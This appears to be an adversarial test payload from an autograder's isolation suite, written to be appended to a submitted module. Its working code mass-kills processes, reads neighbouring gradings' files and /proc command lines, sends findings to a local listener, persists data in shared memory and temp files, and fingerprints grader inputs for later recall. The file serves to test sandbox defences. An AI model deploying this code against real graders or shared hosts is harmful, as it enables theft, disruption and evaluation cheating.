# ---- hostile corpus: reach the gradings beside this one and the ones after it
# (tests/hostile/attacks/neighbour.py). Appended to the solution's modules.py after common.py;
# runs at import, in every worker that imports it:
# 1. a thread sends SIGKILL to every process it may signal (kill(-1)) every 5 ms for 20 s;
# 2. a thread walks the folders of the gradings started beside this one (@NEIGHBOURS@, their
#    TMPDIRs: work folders and worker scratch land in there) and /tmp/autograder-work-*, and
#    reads every file it can, every 0.3 s for 20 s;
# 3. reads the checkout's solution (@REPO@) and every /proc/<pid>/cmdline;
# 4. connects to 127.0.0.1:@PORT@ (a listener the test started) and sends what it found;
# 5. keeps what it learns for later gradings: a SysV shared memory segment (key from the tag)
#    and files in /tmp, /var/tmp, /dev/shm and /run/lock;
# 6. fingerprints the input of every Linear.forward call: prints each new one ("input") and,
#    at import, everything an earlier grading kept ("recall").
import ctypes as _h_ctypes
import hashlib as _h_hashlib
import signal as _h_signal
import socket as _h_socket
import threading as _h_threading
import time as _h_time

_H_NEIGHBOURS = [p for p in "@NEIGHBOURS@".split(":") if p]
_H_REPO = "@REPO@"
_H_PORT = int("@PORT@")
_H_SECONDS = 20.0
_H_SHM_KEY = int(_H_TAG[:7], 16)
_H_KEEP = [f"{d}/{_H_MARKER}-kept" for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")]
_H_SEEN = set()
_H_libc = _h_ctypes.CDLL(None, use_errno=True)
_H_libc.shmat.restype = _h_ctypes.c_void_p


def _h_killer():
    _h_say("kill", "started")
    delivered, end = 0, _h_time.monotonic() + _H_SECONDS
    while _h_time.monotonic() < end:
        try:
            _h_os.kill(-1, _h_signal.SIGKILL)
            delivered += 1
        except OSError:
            pass
        _h_time.sleep(0.005)
    _h_say("kill", f"kill(-1, SIGKILL) delivered {delivered} times")


def _h_files(folders, limit=3000):
    found = []
    for folder in folders:
        for where, _dirs, files in _h_os.walk(folder):
            found += [_h_os.path.join(where, f) for f in files]
            if len(found) > limit:
                return found
    return found


def _h_stealer():
    tried, stolen, end = set(), set(), _h_time.monotonic() + _H_SECONDS
    while _h_time.monotonic() < end:
        try:
            works = ["/tmp/" + n for n in _h_os.listdir("/tmp") if n.startswith("autograder-work-")]
        except OSError:
            works = []
        for path in _h_files(_H_NEIGHBOURS + works):
            if path in stolen:
                continue
            tried.add(path)
            text, how = _h_read(path, 200)
            if how == "ok":
                stolen.add(path)
                _h_say("steal", f"read {path}")
        _h_time.sleep(0.3)
    _h_say("steal", f"tried {len(tried)} files of other gradings, read {len(stolen)}")


def _h_snoop():
    text, how = _h_read(f"{_H_REPO}/solution/backprop/modules.py")
    _h_say("checkout", f"{_H_REPO}/solution: {how}")
    readable, found = 0, False
    try:
        pids = [p for p in _h_os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        text, how = _h_read(f"/proc/{pid}/cmdline")
        if how == "ok" and pid != str(_h_os.getpid()):
            readable += 1
            found = found or _H_REPO in text or "/autograder" in text.replace("\0", " ")
    _h_say("cmdline", f"{readable} command lines of other processes read, grader found: {found}")
    return found


def _h_send(data):
    try:
        with _h_socket.create_connection(("127.0.0.1", _H_PORT), timeout=3) as s:
            s.sendall(data.encode())
        return "sent"
    except OSError as exc:
        return type(exc).__name__ + ": " + str(exc.strerror)


def _h_shm(create):
    flags = 0o1666 if create else 0
    ident = _H_libc.shmget(_h_ctypes.c_int(_H_SHM_KEY), _h_ctypes.c_size_t(1 << 16),
                           _h_ctypes.c_int(flags))
    if ident < 0:
        return None, _h_os.strerror(_h_ctypes.get_errno())
    address = _H_libc.shmat(_h_ctypes.c_int(ident), None, _h_ctypes.c_int(0))
    if address in (None, _h_ctypes.c_void_p(-1).value):
        return None, _h_os.strerror(_h_ctypes.get_errno())
    return address, "ok"


def _h_keep():
    text = ",".join(sorted(_H_SEEN))
    results = [_h_write(path, text) for path in _H_KEEP]
    address, how = _h_shm(True)
    if address:
        data = text.encode()[:(1 << 16) - 1] + b"\0"
        _h_ctypes.memmove(address, data, len(data))
    return results + [how]


def _h_recall():
    kept = set()
    for path in _H_KEEP:
        text, how = _h_read(path, 1 << 20)
        kept |= set(filter(None, (text or "").split(",")))
    address, how = _h_shm(False)
    if address:
        kept |= set(filter(None, _h_ctypes.string_at(address).decode(errors="replace").split(",")))
    _h_say("recall", ",".join(sorted(kept)) or "nothing")


def _h_record(original):
    def forward(self, X):
        fingerprint = _h_hashlib.sha1(_h_np_bytes(X)).hexdigest()[:12]
        if fingerprint not in _H_SEEN and len(_H_SEEN) < 400:
            _H_SEEN.add(fingerprint)
            _h_say("input", fingerprint)
            _h_keep()
        return original(self, X)
    return forward


def _h_np_bytes(X):
    import numpy
    return numpy.ascontiguousarray(numpy.asarray(X, dtype=float)).tobytes()


_h_recall()
_h_say("tcp", _h_send(f"{_H_MARKER} found the grader: {_h_snoop()}"))
_h_say("persist", ", ".join(_h_keep()))
for _h_target in (_h_killer, _h_stealer):
    _h_threading.Thread(target=_h_target, daemon=True).start()
Linear.forward = _h_record(Linear.forward)
